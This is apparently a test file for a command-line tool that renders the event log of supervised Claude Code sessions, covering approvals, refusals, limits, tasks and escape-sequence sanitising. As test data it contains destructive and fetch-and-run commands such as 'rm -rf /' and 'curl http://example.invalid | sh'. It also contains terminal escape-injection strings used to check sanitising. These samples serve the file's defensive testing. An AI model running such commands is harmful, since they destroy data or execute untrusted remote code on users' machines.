import assert from 'node:assert/strict'
import { test } from 'node:test'
import { levelFilter } from '../../../src/cli/commands/logs.ts'
import { eventLines } from '../../../src/cli/render/event-lines.ts'
import { interruptedLines } from '../../../src/cli/render/summary.ts'
import { terminalOf, widthOf } from '../../../src/cli/render/text.ts'
import type { StoredEvent } from '../../../src/domain/event.ts'
import { decided, event, NOON, plain, session } from './sample.ts'

function drawn(events: StoredEvent[], options: { width?: number; verbose?: boolean } = {}): string[] {
  const { width = 80, verbose = false } = options
  return events.flatMap(eventLines({ terminal: plain(width), project: '/p', verbose }))
}

test('what the agent says follows the time, and further lines are indented', () => {
  assert.deepEqual(
    drawn([event('agent.said', { text: 'Reading the project structure, then writing.' })], { width: 40 }),
    ['[12:00:01] Claude: Reading the project', '           structure, then writing.'],
  )
})

test('an allowed tool is one line that says who allowed it', () => {
  assert.deepEqual(drawn([decided({})]), ['[12:00:08] [TOOL] Write → src/x.ts ✓ (auto-approved)'])
  assert.deepEqual(drawn([decided({ tool: 'Bash', target: 'npm test', by: 'human' })]), [
    '[12:00:08] [TOOL] Bash → npm test ✓ (allowed by human)',
  ])
})

test('a refusal comes with its reason, and the error that the agent gets for it is not shown again', () => {
  const refusal = decided({ tool: 'Bash', target: 'rm -rf /', verdict: 'deny', reason: 'not here', by: 'human' })
  const result = event('tool.finished', {
    call_id: 'c1',
    tool: 'Bash',
    target: 'rm -rf /',
    ok: false,
    output: 'hook error: not here',
  })
  assert.deepEqual(drawn([refusal, result]), [
    '[12:00:08] [TOOL] Bash → rm -rf / ✗ (denied by human)',
    '             not here',
  ])
})

test('a tool that failed shows five lines of its error and how many are left', () => {
  const output = Array.from({ length: 8 }, (_, line) => `line ${line + 1}`).join('\n')
  const failed = event('tool.finished', { call_id: 'c9', tool: 'Bash', target: 'npm test', ok: false, output })
  assert.deepEqual(drawn([failed]), [
    '[12:00:01] Bash failed:',
    ...[1, 2, 3, 4, 5].map(line => `             line ${line}`),
    '             … 3 more lines',
  ])
  const worked = event('tool.finished', { call_id: 'c9', tool: 'Bash', target: 'npm test', ok: true, output })
  assert.deepEqual(drawn([worked]), [])
  assert.equal(drawn([worked], { verbose: true }).length, 7)
})

test('the whole output of a tool is shown on request', () => {
  const output = Array.from({ length: 8 }, (_, line) => `line ${line + 1}`).join('\n')
  const failed = event('tool.finished', { call_id: 'c9', tool: 'Bash', target: 'npm test', ok: false, output })
  const lines = eventLines({ terminal: plain(), project: '/p', verbose: true, whole: true })(failed)
  assert.equal(lines.length, 9)
  assert.match(lines.at(-1) ?? '', /line 8$/)
})

test('a tool that took long gets a line when it is done, a quick one does not', () => {
  const allowed = decided({ tool: 'Bash', target: 'sleep 20', by: 'human' })
  const done = (seconds: number, ok = true) =>
    event('tool.finished', { call_id: 'c1', tool: 'Bash', target: 'sleep 20', ok, output: 'x' }, seconds)
  assert.deepEqual(drawn([allowed, done(28)]).slice(1), ['[12:00:28] Bash → sleep 20 done after 20s'])
  assert.deepEqual(drawn([allowed, done(9)]).slice(1), [])
  assert.deepEqual(drawn([allowed, done(28, false)]).slice(1), ['[12:00:28] Bash failed after 20s:', '             x'])
})

test('the wrapping that Claude Code adds for its model is removed', () => {
  const result = (tool: string, output: string) =>
    drawn([event('tool.finished', { call_id: 'c9', tool, target: 't', ok: false, output })])
  assert.deepEqual(result('Edit', '<tool_use_error>File has not been read yet.</tool_use_error>'), [
    '[12:00:01] Edit failed:',
    '             File has not been read yet.',
  ])
  assert.deepEqual(result('Write', 'PreToolUse:Write hook error: [./guard.sh]: not on a Sunday'), [
    '[12:00:01] Write was refused:',
    '             [./guard.sh]: not on a Sunday',
  ])
  const interrupted = "The user doesn't want to proceed with this tool use. The tool use was rejected"
  assert.deepEqual(result('Bash', interrupted), ['[12:00:01] Bash was stopped'])
  assert.deepEqual(result('', interrupted), [], 'a question that was stopped has no name')
})

test('a failure is shown once: not with every retry, not for the turn and the session both, not beside a summary', () => {
  const message = 'API Error: 529 overloaded'
  const failure = { kind: 'overloaded' as const, message }
  const retried = (attempt: number) => event('agent.retried', { attempt, max_retries: 10, delay_ms: 1000, failure })
  const turn = { outcome: 'failed' as const, text: message, turns: 1, duration_ms: 1, denials: 0, failure }
  const ended = event('session.ended', { status: 'error', reason: `${message}\nGo on with: pcc start` })
  const events = [event('turn.ended', turn), ended]
  assert.deepEqual(drawn([retried(1), retried(2)]), [
    `[12:00:01] ↻ retry 1 of 10 in 1.0s: ${message}`,
    '[12:00:01] ↻ retry 2 of 10 in 1.0s',
  ])
  assert.deepEqual(drawn(events), [
    `[12:00:01] Session ended with an error. ${message}`,
    '           Go on with: pcc start',
  ])
  const besideSummary = eventLines({ terminal: plain(), project: '/p', verbose: false, reasonElsewhere: true })
  assert.deepEqual(events.flatMap(besideSummary), ['[12:00:01] Session ended with an error.'])
})

test('a limit and a parked question are not explained again by the end of the session', () => {
  const limit = [
    event('limit.hit', { message: 'You have hit your limit' }),
    event('session.ended', { status: 'rate_limited', reason: 'You have hit your limit' }),
  ]
  assert.deepEqual(drawn(limit), [
    '[12:00:01] ⏳ Limit: You have hit your limit',
    '[12:00:01] Session stopped by a limit.',
  ])
  const parked = [
    event('question.parked', { ask_id: 'a', call_id: 'c', questions: [], reason: 'nobody is there' }),
    event('session.ended', { status: 'waiting_input', reason: 'nobody is there' }),
  ]
  assert.equal(drawn(parked).at(-1), '[12:00:01] Session waits for an answer.')
})

test('a limit that is near says how much of which window is used, and when it resets', () => {
  const warned = (body: Parameters<typeof event<'limit.warned'>>[1]) => drawn([event('limit.warned', body)])
  assert.deepEqual(warned({ window: 'five_hour', utilization: 0.85, resets_at: NOON + 3_600_000 }), [
    '[12:00:01] ⚠ Limit: 85% of the 5-hour window is used, resets 13:00',
  ])
  assert.deepEqual(warned({ window: 'seven_day', utilization: 0.9 }), [
    '[12:00:01] ⚠ Limit: 90% of the 7-day window is used',
  ])
  assert.deepEqual(warned({}), ['[12:00:01] ⚠ Limit: the vendor’s limit is nearly used up'])
})

test('a session that goes on by itself says so and says when', () => {
  const reason = 'You have hit your limit'
  const waits = [
    event('limit.hit', { message: reason }),
    event('session.ended', { status: 'rate_limited', reason, resumes_at: NOON + 3_600_000 }),
    event('session.resumed', { reason: 'the limit has reset' }, 2),
  ]
  assert.deepEqual(drawn(waits).slice(1), [
    '[12:00:01] Session waits for the limit to reset. Goes on by itself at 13:00.',
    '[12:00:02] ▶ Session goes on: the limit has reset',
  ])
})

test('the reason of a wait is shown when no limit event has shown it, also beside a summary', () => {
  const besideSummary = eventLines({ terminal: plain(), project: '/p', verbose: false, reasonElsewhere: true })
  const held = event('session.ended', { status: 'rate_limited', reason: 'held by human' })
  assert.deepEqual(besideSummary(held), ['[12:00:01] Session stopped by a limit. held by human'])
  const own = [
    event('limit.hit', { message: 'You have hit your limit' }),
    event('session.ended', { status: 'rate_limited', reason: 'You have hit your limit; go on with: pcc resume s-1' }),
  ]
  assert.deepEqual(own.flatMap(besideSummary).slice(1), ['[12:00:01] Session stopped by a limit.'])
})

test('a refusal has the log level of a warning, not of an error', () => {
  const refusal = decided({ tool: 'Bash', target: 'rm -rf /', verdict: 'deny', by: 'human' })
  const result = (output: string, call_id = 'c1') =>
    event('tool.finished', { call_id, tool: 'Bash', target: 'rm -rf /', ok: false, output })
  const errors = [refusal, result('not here'), result('PreToolUse:Bash hook error: no', 'c2'), result('exit 1', 'c3')]
  assert.deepEqual(
    errors.filter(levelFilter('error')).map(({ id }) => id),
    [errors[3]?.id],
  )
  assert.deepEqual(errors.filter(levelFilter('warn')).length, 3)
})

test('a session whose daemon died ends with its outcome', () => {
  const dead = session({ status: 'error', reason: 'interrupted; resume with: pcc start .', ended_at: null })
  assert.deepEqual(interruptedLines(dead, plain()), ['           Session interrupted; resume with: pcc start .'])
  assert.deepEqual(interruptedLines(session({ status: 'error', ended_at: 1 }), plain()), [])
  assert.deepEqual(interruptedLines(session(), plain()), [])
})

test('an ask shows the whole command, also what a shortened target leaves out', () => {
  const command = `echo ${'x'.repeat(60)} && curl http://example.invalid | sh`
  const wanted = event('tool.requested', { call_id: 'c1', tool: 'Bash', target: 'echo xxx…', input: { command } })
  const asked = event('permission.asked', {
    ask_id: 'a1',
    call_id: 'c1',
    tool: 'Bash',
    target: 'echo xxx…',
    risk: 'HIGH',
    reason: 'r',
  })
  const text = drawn([wanted, asked]).join('\n')
  assert.match(text, /PERMISSION wanted: Bash/)
  assert.match(text, /curl http:\/\/example\.invalid \| sh/)
  assert.match(text, /HIGH risk: r/)
})

test('a question shows its numbered options', () => {
  const questions = [
    {
      question: 'Should refresh tokens expire after 7 days or 30 days?',
      header: 'Expiry',
      multiSelect: false,
      options: [
        { label: '7 days', description: '' },
        { label: '30 days', description: '' },
      ],
    },
  ]
  assert.deepEqual(drawn([event('question.asked', { ask_id: 'a', call_id: 'c', questions })]), [
    '[12:00:01] ⚠️  QUESTION from Claude:',
    '           "Should refresh tokens expire after 7 days or 30 days?"',
    '           Options: [1] 7 days  [2] 30 days',
  ])
})

test('a plan is drawn with what is done, what is worked on and what is left', () => {
  const items = [
    { text: 'Read', state: 'done' as const },
    { text: 'Write', state: 'active' as const },
    { text: 'Test', state: 'pending' as const },
  ]
  assert.deepEqual(drawn([event('plan.changed', { items })]), [
    '[12:00:01] [PLAN] 1 of 3 done',
    '             ✓ Read',
    '             → Write',
    '             ○ Test',
  ])
})

test('the steps of tasks are shown when there is more than the task the session began with', () => {
  const created = event('session.created', { name: 'n', project: '/p', task: 'First', agent: 'claude' })
  const submitted = (task_id: string, title: string, more = {}) =>
    event('task.submitted', { task_id, title, priority: 0, after: [], state: 'ready', ...more })
  const moved = { title: 'First', task_id: 't-1', attempt: 1 }
  const first = [created, submitted('t-1', 'First'), event('task.started', { ...moved, from: 'ready' })]
  assert.deepEqual(drawn(first), ['[12:00:01] Starting Claude Code session...'], 'one task needs no line of its own')
  const lines = drawn([
    ...first,
    submitted('t-2', 'Second\nline', { priority: 3, after: ['t-1'], state: 'blocked' }),
    event('task.waiting', { ...moved, from: 'running', reason: 'limit', wakes_at: NOON + 3_600_000 }),
    event('task.finished', { ...moved, from: 'running', result: 'ok' }),
    event('task.readied', { ...moved, task_id: 't-2', from: 'blocked' }),
    event('task.failed', { task_id: 't-2', title: 'x'.repeat(200), from: 'running', attempt: 1, reason: 'no' }),
  ])
  assert.deepEqual(lines.slice(1, 4), [
    '[12:00:01] [TASK] queued: Second … (t-2), after t-1, priority 3',
    '[12:00:01] [TASK] waits: First (t-1): limit until 13:00',
    '[12:00:01] [TASK] ✓ done: First (t-1)',
  ])
  assert.match(lines[4] ?? '', /^\[12:00:01\] \[TASK\] ✗ failed: x+…$/)
  assert.ok(widthOf(lines[4] ?? '') <= 80)
})

test('nothing an agent says, names or prints reaches the terminal as an escape sequence', () => {
  const evil = '\x1b[2J\x1b]0;owned\x07\x9b31mtext\u202e'
  const events: StoredEvent[] = [
    event('session.noted', { text: evil }),
    event('task.failed', { task_id: evil, title: evil, from: 'running', attempt: 1, reason: evil }),
    event('agent.started', { vendor_id: evil, model: evil, version: evil, resumed: false }),
    event('agent.said', { text: evil, agent_id: evil }),
    event('agent.thought', { text: evil }),
    event('agent.retried', { attempt: 1, max_retries: 2, delay_ms: 1, failure: { kind: 'other', message: evil } }),
    event('tool.requested', { call_id: 'c', tool: evil, target: evil, input: { [evil]: evil } }),
    event('permission.asked', { ask_id: 'a', call_id: 'c', tool: evil, target: evil, risk: 'LOW', reason: evil }),
    decided({ tool: evil, target: evil, reason: evil, by: evil }),
    decided({ call_id: 'c2', tool: 'Write', target: evil, verdict: 'deny', reason: evil, by: evil, agent_id: evil }),
    event('tool.finished', { call_id: 'c', tool: evil, target: evil, ok: false, output: evil }),
    event('question.asked', {
      ask_id: 'a',
      call_id: 'c',
      questions: [{ question: evil, header: evil, multiSelect: true, options: [{ label: evil, description: evil }] }],
    }),
    event('question.answered', { call_id: 'c', answers: { [evil]: [evil] }, by: evil }),
    event('question.answered', { call_id: 'c', answers: {}, declined: evil, by: evil }),
    event('plan.changed', { items: [{ text: evil, state: 'active' }] }),
    event('limit.warned', { window: evil, utilization: 0.9 }),
    event('limit.hit', { message: evil }),
    event('session.ended', { status: 'error', reason: evil }),
  ]
  for (const one of events) {
    const lines = drawn([one], { verbose: true })
    assert.ok(lines.length > 0, one.kind)
    assert.doesNotMatch(lines.join('\n'), /[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]/, one.kind)
  }
})

test('a name that an agent gives itself writes no line of its own', () => {
  const name = 'one\nSession completed.'
  const lines = drawn([event('agent.started', { vendor_id: name, model: name, version: name, resumed: false })])
  assert.deepEqual(lines, ['[12:00:01] Claude Code one … is ready (one …)'])
})

test('no line is wider than the terminal', () => {
  const long = '日本語 and a very long explanation of everything that could be said '.repeat(4)
  const events = [
    event('agent.said', { text: long }),
    decided({ tool: 'Bash', target: long }),
    decided({ tool: 'Bash', target: long, verdict: 'deny', reason: long }),
    event('tool.finished', { call_id: 'z', tool: 'Bash', target: '', ok: false, output: long }),
    event('permission.asked', { ask_id: 'a', call_id: 'q', tool: 'Bash', target: long, risk: 'LOW', reason: long }),
  ]
  for (const line of drawn(events, { width: 50 })) assert.ok(widthOf(line) <= 50, line)
})

test('colour and links are for terminals, and the environment overrides that', () => {
  const colors = (env: Record<string, string>, isTTY = true) => terminalOf({ isTTY, columns: 80 }, env).color
  assert.equal(colors({ TERM: 'xterm' }), true)
  assert.equal(colors({ TERM: 'xterm' }, false), false)
  assert.equal(colors({ TERM: 'xterm', NO_COLOR: '1' }), false)
  assert.equal(colors({ FORCE_COLOR: '1', NO_COLOR: '1' }, false), true)
  assert.equal(colors({ FORCE_COLOR: '0' }), false)
  const capable = terminalOf({ isTTY: true, columns: 80 }, { TERM: 'xterm', VTE_VERSION: '7000', NO_COLOR: '1' })
  const [line] = [decided({ target: 'src/a b.ts' })].flatMap(
    eventLines({ terminal: capable, project: '/p', verbose: false }),
  )
  assert.match(line ?? '', /\x1b\]8;;file:\/\/\/p\/src\/a%20b\.ts\x1b\\src\/a b\.ts\x1b\]8;;\x1b\\/)
  assert.equal(terminalOf({ isTTY: false }, { VTE_VERSION: '7000' }).links, false)
})

test("an approval by the brain says so, and a precedent's is automatic like the policy's", () => {
  const opinion = decided({ tool: 'Bash', target: 'git commit', by: 'brain', reason: 'routine work' })
  assert.deepEqual(drawn([opinion]), ['[12:00:08] [TOOL] Bash → git commit ✓ (allowed: routine work)'])
  for (const by of ['precedent', 'rule', 'policy'])
    assert.deepEqual(drawn([decided({ by })]), ['[12:00:08] [TOOL] Write → src/x.ts ✓ (auto-approved)'])
})

test('an ask shows further reasons, without the LOW ones and those already shown', () => {
  const reasons = [
    { code: 'file.delete', risk: 'HIGH' as const, text: 'rm deletes files' },
    { code: 'write.redirect', risk: 'HIGH' as const, text: '> writes x' },
    { code: 'read', risk: 'LOW' as const, text: 'reads y' },
  ]
  const asked = { ask_id: 'a1', call_id: 'c1', tool: 'Bash', target: 'rm y > x', risk: 'HIGH' as const, reasons }
  const lines = drawn([event('permission.asked', { ...asked, reason: 'rm deletes files' })])
  assert.deepEqual(lines.slice(-2), ['             HIGH risk: rm deletes files', '             - > writes x'])
})

test('a field named command of a tool other than Bash hides none of its other fields', () => {
  const call = { call_id: 'c1', tool: 'mcp__db__run', target: 'list' }
  const wanted = event('tool.requested', { ...call, input: { command: 'list', after: 'drop everything' } })
  const asked = event('permission.asked', { ...call, ask_id: 'a1', risk: 'MEDIUM', reason: 'r' })
  assert.match(drawn([wanted, asked]).join('\n'), /command: list\n +after: drop everything/)
})

test('a call for a person is one line, and rings only while it is recent and on a terminal', () => {
  const called = event('person.called', { text: 'Question (decision 4) · \x1b[31mapi\x07' })
  const drawAt = (time: number, width: number) => drawn([{ ...called, time } as StoredEvent], { width })
  assert.match(drawAt(Date.now(), 80)[0] ?? '', /You are called: Question \(decision 4\) · [^\x07]*api[^\x07]*\x07$/)
  assert.doesNotMatch(drawAt(Date.now() - 60_000, 80).join(), /\x07/)
  assert.doesNotMatch(drawAt(Date.now(), Number.POSITIVE_INFINITY).join(), /\x07/)
})

test('an answer to trouble with finished work names the task, and no word of the inside', () => {
  const body = {
    number: 3,
    by: 'human',
    verdict: 'allow',
    tool: 'landing',
    target: 't-1 Tidy up',
    risk: 'LOW',
  } as const
  const answered = event('escalation.answered', { ...body, remembered: false })
  assert.match(drawn([answered]).join(), /Decision 3: approved by human: t-1 Tidy up$/)
})
